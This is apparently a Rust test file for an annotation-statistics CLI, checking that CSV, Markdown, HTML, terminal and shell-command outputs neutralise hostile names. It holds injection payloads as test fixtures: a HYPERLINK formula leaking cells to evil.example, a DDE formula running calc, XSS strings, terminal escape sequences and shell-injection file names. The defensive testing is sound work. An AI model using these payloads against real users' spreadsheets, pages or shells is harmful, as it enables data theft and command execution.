//! Issue 45, through the binary: what the tool writes is safe to open. Names that attack
//! whoever opens an output — a spreadsheet formula in every CSV written, HTML and table syntax
//! in the Markdown report, terminal escapes in what is printed, shell syntax in the command the
//! report prints to reproduce its figures — are neutralised, and our own readers give the
//! names back.

mod common;

use common::cli::gamma_studio;
use std::path::Path;
use std::process::Output;

/// A formula that leaks a cell to a web server when the table is opened.
const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")";
/// A formula that runs a program (DDE).
const DDE: &str = "+cmd|' /C calc'!A0";

fn arg(path: &Path) -> &str {
    path.to_str().unwrap()
}

fn ok(output: &Output) -> String {
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout.clone()).unwrap()
}

/// A CSV field as a CSV writer writes it.
fn field(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// A document whose names are formulas: annotators `HYPERLINK` and `DDE`, categories `-PER`
/// (a formula too), `@SUM(A1)` and `-1` (a number: written as it is).
fn formula_document(path: &Path) {
    let mut text = String::from("annotator,category,start,end\n");
    for annotator in [HYPERLINK, DDE] {
        for (category, start, end) in [("-PER", 0, 5), ("@SUM(A1)", 10, 15), ("-1", 20, 25)] {
            text += &format!("{},{},{start},{end}\n", field(annotator), field(category));
        }
    }
    text += &format!("{},-PER,30,34\n", field(HYPERLINK));
    std::fs::write(path, text).unwrap();
}

/// Every cell of the CSV at `path`, row by row.
fn cells(path: &Path) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_path(path)
        .unwrap();
    (reader.records())
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

/// Asserts no cell of the CSV at `path` would run as a formula in a spreadsheet (it starts with
/// `=`, `+`, `-`, `@`, TAB or CR and is not a plain number), and that `expected` cells are
/// there.
fn assert_safe_csv(path: &Path, expected: &[&str]) {
    let rows = cells(path);
    for cell in rows.iter().flatten() {
        let number = cell
            .chars()
            .all(|c| c.is_ascii_digit() || "+-.eE".contains(c))
            && cell.parse::<f64>().is_ok();
        assert!(
            number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{}: the cell {cell:?} runs as a formula",
            path.display()
        );
    }
    for wanted in expected {
        assert!(
            rows.iter().flatten().any(|c| c == wanted),
            "{}: no cell {wanted:?} in {rows:?}",
            path.display()
        );
    }
}

#[test]
fn every_csv_written_is_safe_in_a_spreadsheet_and_reads_back_as_it_was() {
    let dir = tempfile::tempdir().unwrap();
    let corpus = dir.path().join("corpus");
    std::fs::create_dir(&corpus).unwrap();
    let doc = corpus.join("doc.csv");
    formula_document(&doc);
    formula_document(&corpus.join("doc2.csv"));
    let quoted_hyperlink = format!("'{HYPERLINK}");
    let quoted_dde = format!("'{DDE}");
    let names = [
        quoted_hyperlink.as_str(),
        quoted_dde.as_str(),
        "'-PER",
        "-1",
    ];

    // convert --to csv, read back by our reader as the original names.
    let converted = dir.path().join("converted.csv");
    ok(&gamma_studio(&[
        "convert",
        arg(&doc),
        "--to",
        "csv",
        "--out",
        arg(&converted),
    ]));
    assert_safe_csv(&converted, &names);
    let original = gamma_formats::csv::read(&doc).unwrap();
    let read_back = gamma_formats::csv::read(&converted).unwrap();
    assert_eq!(read_back.annotator_names(), vec![HYPERLINK, DDE]);
    assert_eq!(read_back.annotators, original.annotators);
    // And converted again: the same bytes (no second quote mark).
    let again = dir.path().join("again.csv");
    ok(&gamma_studio(&[
        "convert",
        arg(&converted),
        "--to",
        "csv",
        "--out",
        arg(&again),
    ]));
    assert_eq!(
        std::fs::read(&again).unwrap(),
        std::fs::read(&converted).unwrap()
    );

    // The per-document table of a corpus.
    let table = dir.path().join("table.csv");
    ok(&gamma_studio(&[
        "gamma",
        arg(&corpus),
        "--per-document",
        arg(&table),
    ]));
    let annotators = format!("'{HYPERLINK} {DDE}");
    assert_safe_csv(&table, &[annotators.as_str()]);

    // The gold and its decision report (annotators as header cells, units by category).
    let (gold, report) = (dir.path().join("gold.csv"), dir.path().join("report.csv"));
    ok(&gamma_studio(&[
        "gold",
        arg(&doc),
        "--auto",
        "unanimous",
        "--out",
        arg(&gold),
        "--report",
        arg(&report),
    ]));
    assert_safe_csv(&gold, &["'-PER"]);
    assert_safe_csv(&report, &names[..2]);
    let corpus_gold = dir.path().join("gold-corpus");
    let corpus_report = dir.path().join("corpus-report.csv");
    ok(&gamma_studio(&[
        "gold",
        arg(&corpus),
        "--auto",
        "unanimous",
        "--out",
        arg(&corpus_gold),
        "--report",
        arg(&corpus_report),
    ]));
    assert_safe_csv(&corpus_report, &names[..2]);

    // evaluate's table of scores.
    let scores = dir.path().join("scores.csv");
    ok(&gamma_studio(&[
        "evaluate",
        arg(&doc),
        "--reference",
        HYPERLINK,
        "--csv",
        arg(&scores),
    ]));
    assert_safe_csv(&scores, &[quoted_dde.as_str(), "'-PER", "-1"]);

    // shuffle's reference and shuffled annotations.
    let shuffled = dir.path().join("shuffled");
    ok(&gamma_studio(&[
        "shuffle",
        "--reference",
        arg(&doc),
        "--error",
        "shift",
        "--magnitude",
        "0.1",
        "--out",
        arg(&shuffled),
    ]));
    for name in ["reference.csv", "shuffled.csv"] {
        assert_safe_csv(&shuffled.join(name), &["'-PER", "-1"]);
    }
}

#[test]
fn a_coding_studys_gold_and_decisions_are_safe_and_read_back_as_they_were() {
    let dir = tempfile::tempdir().unwrap();
    let quoted_hyperlink = format!("'{HYPERLINK}");
    let quoted_dde = format!("'{DDE}");
    // The coding study's gold table and decision report; read back, the labels are the same.
    let table = dir.path().join("ratings.csv");
    std::fs::write(
        &table,
        format!(
            "item,{},b\n1,{h},{h}\n2,-1,-1\n3,-PER,-PER\n4,x,y\n",
            field(DDE),
            h = field(HYPERLINK)
        ),
    )
    .unwrap();
    let (gold, decisions) = (
        dir.path().join("gold.csv"),
        dir.path().join("decisions.csv"),
    );
    ok(&gamma_studio(&[
        "coding",
        arg(&table),
        "--auto",
        "unanimous",
        "--out",
        arg(&gold),
        "--decisions",
        arg(&decisions),
    ]));
    assert_safe_csv(&gold, &[quoted_hyperlink.as_str(), "'-PER", "-1"]);
    assert_safe_csv(
        &decisions,
        &[quoted_hyperlink.as_str(), quoted_dde.as_str()],
    );
    let back = ok(&gamma_studio(&[
        "coding",
        arg(&gold),
        "--json",
        "--per-category",
    ]));
    let back: serde_json::Value = serde_json::from_str(&back).unwrap();
    let mut labels: Vec<&str> = (back["per_category"].as_array().unwrap().iter())
        .map(|c| c["category"].as_str().unwrap())
        .collect();
    labels.sort_unstable();
    assert_eq!(labels, ["-1", "-PER", HYPERLINK]);
}

/// Names that are HTML, table syntax and line breaks in a CSV document.
fn markup_document(path: &Path) {
    let text = format!(
        "annotator,category,start,end\n\
         {a},{img},0,5\n{b},{img},0,5\n{a},{pipe},10,15\n{b},{pipe},10,15\n\
         {a},{line},20,25\n{b},{line},21,25\nc,{img},0,5\nc,{pipe},10,14\n",
        a = field("<script>alert(1)</script>"),
        b = field("b&c"),
        img = field("<img src=x onerror=alert(1)>"),
        pipe = field("a|b"),
        line = field("x\n| forged | row |"),
    );
    std::fs::write(path, text).unwrap();
}

#[test]
fn the_markdown_report_escapes_names_and_the_html_escapes_them_once() {
    let dir = tempfile::tempdir().unwrap();
    let doc = dir.path().join("doc.csv");
    markup_document(&doc);
    let markdown = dir.path().join("report.md");
    ok(&gamma_studio(&[
        "report",
        arg(&doc),
        "--gamma-k",
        "-o",
        arg(&markdown),
    ]));
    let text = std::fs::read_to_string(&markdown).unwrap();
    // Outside the command's code block, with the escaped characters taken out.
    let prose: String = text
        .split("```")
        .step_by(2)
        .collect::<Vec<_>>()
        .join("")
        .replace(r"\<", "")
        .replace(r"\|", "");
    for raw in ["<img", "<script", "| forged | row |"] {
        assert!(!prose.contains(raw), "{raw:?} written raw:\n{text}");
    }
    assert!(text.contains(r"\<img src=x onerror=alert(1)\>"), "{text}");
    // Every row of a table has the cells of its header: no `|` of a name splits a cell.
    let unescaped_pipes = |line: &str| line.matches('|').count() - line.matches(r"\|").count();
    for table in text.split("\n\n").filter(|t| t.starts_with('|')) {
        let mut lines = table.lines();
        let columns = unescaped_pipes(lines.next().unwrap());
        for line in lines {
            assert_eq!(unescaped_pipes(line), columns, "{line:?} in\n{table}");
        }
    }
    assert!(text.contains(r"γ-k a\|b"), "{text}");

    // The HTML report: the reference's name escaped once in its heading.
    let html = dir.path().join("report.html");
    ok(&gamma_studio(&[
        "report",
        arg(&doc),
        "--reference",
        "b&c",
        "-o",
        arg(&html),
    ]));
    let page = std::fs::read_to_string(&html).unwrap();
    assert!(
        page.contains("<h2>Against the reference: b&amp;c</h2>"),
        "{page}"
    );
    assert!(!page.contains("&amp;amp;") && !page.contains("<script>alert"));
}

/// Whether `text` holds a character a terminal acts on (but line feeds and tabs).
fn has_terminal_controls(text: &str) -> bool {
    text.chars()
        .any(|c| c.is_control() && c != '\n' && c != '\t')
}

#[test]
fn nothing_printed_carries_a_terminal_escape_or_a_line_break_of_a_name() {
    let dir = tempfile::tempdir().unwrap();
    let corpus = dir.path().join("corpus");
    std::fs::create_dir(&corpus).unwrap();
    let title = "\u{1b}]0;owned\u{7}";
    let clear = "\u{1b}[2J\u{1b}[H";
    for name in [format!("d{clear}"), "doc\nforged line".to_string()] {
        std::fs::write(
            corpus.join(format!("{name}.csv")),
            format!(
                "annotator,category,start,end\n\
                 {a},{c},0,5\n{b},{c},0,5\n{a},X,10,15\n{b},X,11,15\n",
                a = field(&format!("ann{title}")),
                b = field("bob\rcarriage"),
                c = field(&format!("PER{clear}")),
            ),
        )
        .unwrap();
    }
    let doc = corpus.join(format!("d{clear}.csv"));
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let ratings = dir.path().join("ratings.csv");
    std::fs::write(
        &ratings,
        format!(
            "item,{a},{b}\n1,{c},{c}\n2,{c},X\n3,X,X\n",
            a = field(&format!("ann{title}")),
            b = field("bob\nforged line"),
            c = field(&format!("PER{clear}")),
        ),
    )
    .unwrap();
    let runs = [
        gamma_studio(&[
            "coding",
            arg(&ratings),
            "--pairwise",
            "--per-category",
            "--confusion",
        ]),
        gamma_studio(&["coding", arg(&ratings), "--json", "--per-category"]),
        gamma_studio(&["gamma", arg(&corpus), "--gamma-k", "--gamma-cat"]),
        gamma_studio(&["gamma", arg(&doc), "--gamma-k"]),
        gamma_studio(&["evaluate", arg(&doc), "--reference", &format!("ann{title}")]),
        gamma_studio(&["coefficients", arg(&doc)]),
        gamma_studio(&[
            "gold",
            arg(&corpus),
            "--auto",
            "unanimous",
            "--out",
            arg(&out.join("gold")),
        ]),
        gamma_studio(&[
            "gold",
            arg(&doc),
            "--auto",
            "unanimous",
            "--out",
            arg(&out.join("gold.csv")),
        ]),
        gamma_studio(&[
            "convert",
            arg(&corpus),
            "--to",
            "csv",
            "--out",
            arg(&out.join("converted")),
        ]),
    ];
    for run in &runs {
        let (stdout, stderr) = (ok(run), String::from_utf8_lossy(&run.stderr).into_owned());
        assert!(
            !has_terminal_controls(&stdout) && !has_terminal_controls(&stderr),
            "{stdout:?}\n{stderr:?}"
        );
        assert!(
            !stdout.lines().any(|l| l.starts_with("forged line")),
            "{stdout}"
        );
    }
    assert!(ok(&runs[3]).contains("γ-k(PER\\u{1b}[2J\\u{1b}[H) = "));
    // JSON stays JSON, its names whole.
    let json = ok(&gamma_studio(&["gamma", arg(&doc), "--json"]));
    let value: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(value["annotators"][0], format!("ann{title}"));
}

#[test]
fn the_command_to_reproduce_a_report_gives_back_every_argument_through_sh() {
    let dir = tempfile::tempdir().unwrap();
    let names = [
        "x$(touch${IFS}P).csv",
        "it's `touch Q` ; touch R.csv",
        "line\nbreak \u{1b}[2J.csv",
    ];
    let mut arguments = vec!["report".to_string()];
    for name in names {
        let path = dir.path().join(name);
        std::fs::write(
            &path,
            "annotator,category,start,end\na,X,0,5\nb,X,0,5\na,Y,10,15\nb,Y,11,15\n",
        )
        .unwrap();
        arguments.push(path.to_str().unwrap().to_string());
    }
    let out = dir.path().join("report $HOME.json");
    arguments.extend(["--alpha".into(), "2".into(), "-o".into()]);
    arguments.push(out.to_str().unwrap().to_string());
    let given: Vec<&str> = arguments.iter().map(String::as_str).collect();
    ok(&gamma_studio(&given));
    let report: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&out).unwrap()).unwrap();
    let rerun = report["method"]["rerun"].as_str().unwrap();
    assert!(!has_terminal_controls(rerun), "{rerun:?}");
    let words = rerun.strip_prefix("gamma-studio ").unwrap();
    // The command's words printed one per NUL by the shell, in a folder of its own.
    let shell = tempfile::tempdir().unwrap();
    let output = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!("printf '%s\\0' {words}"))
        .current_dir(shell.path())
        .output()
        .unwrap();
    assert!(output.status.success(), "{output:?}");
    let printed: Vec<String> = String::from_utf8(output.stdout)
        .unwrap()
        .split_terminator('\0')
        .map(String::from)
        .collect();
    // The report names its files relative to the folder of the corpus (issue 41: it must run
    // on a colleague's machine), each argument given back exactly.
    let folder = format!("{}/", dir.path().to_str().unwrap());
    let relative: Vec<String> = (arguments.iter())
        .map(|a| a.strip_prefix(&folder).unwrap_or(a).to_string())
        .collect();
    assert_eq!(printed, relative);
    assert_eq!(
        std::fs::read_dir(shell.path()).unwrap().count(),
        0,
        "the command ran something"
    );
    assert!(!dir.path().join("P").exists());
}
